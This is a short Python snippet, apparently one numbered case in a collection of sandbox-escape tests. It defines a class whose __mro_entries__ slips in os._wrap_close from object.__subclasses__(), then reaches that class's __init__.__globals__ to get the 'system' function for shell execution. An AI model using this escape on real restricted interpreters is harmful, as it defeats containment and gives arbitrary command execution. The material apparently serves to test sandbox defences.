# c37: gain: a forbidden base by __mro_entries__
class Base:
    def __mro_entries__(self, bases):
        return tuple(c for c in object.__subclasses__() if c.__name__ == "_wrap_close")
class Child(Base()):
    pass
reach(Child.__init__.__globals__)
run_shell(Child.__init__.__globals__["system"])
